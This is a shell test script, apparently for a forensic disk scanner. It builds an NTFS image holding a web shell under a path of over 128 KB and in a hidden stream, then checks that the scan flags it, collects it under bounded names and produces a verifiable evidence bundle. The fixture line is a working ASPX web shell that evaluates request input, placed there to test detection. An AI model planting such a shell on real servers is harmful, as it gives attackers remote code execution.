#!/bin/sh
# A web shell under a path of about 128 KB (legal on NTFS, chosen by the
# attacker) once overflowed the zip writer: now it is flagged, collected
# under a bounded entry name, and the bundle verifies with exhume and with
# unzip + sha256sum -c; its full original path is kept in the manifest.
. "$TOP/tests/lib/tap.sh"
comp=$(printf '%0250d' 0 | tr 0 d)
deep='\inetpub\wwwroot\aspnet_client'
i=0
while [ $i -lt 512 ]; do deep="$deep\\$comp$i"; i=$((i + 1)); done
shell='text:<script language="JScript" runat="server">function Page_Load(){eval(Request["deep"],"unsafe");}</script>\r\n'
{
	echo 'disk gpt size=96M'
	echo 'part ntfs start=2048 size=64M label=SYSTEM'
	printf 'file %s\\deep.aspx %s\n' "$deep" "$shell"
	printf 'file %s\\deep.aspx:hidden %s\n' "$deep" "$shell"
} >"$TMP/deep.spec"
[ "$(wc -c <"$TMP/deep.spec")" -gt 128000 ]; ok $? "the spec holds a path of over 128 KB"
mkimage "$TMP/deep.spec" "$TMP/deep.img"; ok $? "fixture builds"
IMAGES="$TMP/deep.img"

run scan "$TMP/deep.img" --full --bundle "$TMP/case.zip"
[ "$RC" -eq 1 ]; ok $? "scan --bundle finishes with exit 1 (findings), no crash"
mkdir "$TMP/x" && (cd "$TMP/x" && unzip -q ../case.zip && sha256sum -c --quiet SHA256SUMS)
ok $? "unzip + sha256sum -c SHA256SUMS verifies"
run verify "$TMP/case.zip"
ok $RC "exhume verify accepts the bundle"
n=$(grep -c '"status":"collected".*deep\.aspx\|deep\.aspx.*"status":"collected"' "$TMP/x/manifest.jsonl")
[ "$n" -eq 2 ]; ok $? "the shell and its hidden stream are both collected ($n)"
python3 - "$TMP/x/manifest.jsonl" "$deep" <<'PY'
import json, sys
want = 'C:' + sys.argv[2] + '\\deep.aspx'
rows = [json.loads(l) for l in open(sys.argv[1], encoding='utf-8')]
shells = [r for r in rows if (r.get('path') or '').startswith(want)]
assert len(shells) == 2, len(shells)
assert sorted(r['path'] for r in shells) == [want, want + ':hidden']
for r in shells:
    assert len(r['entry'].encode()) <= 1024, len(r['entry'])
    assert '/%~' in r['entry'], r['entry']
assert shells[0]['entry'] != shells[1]['entry']
PY
ok $? "the manifest keeps the full original path; entry names are bounded and distinct"
report_unchanged
done_testing
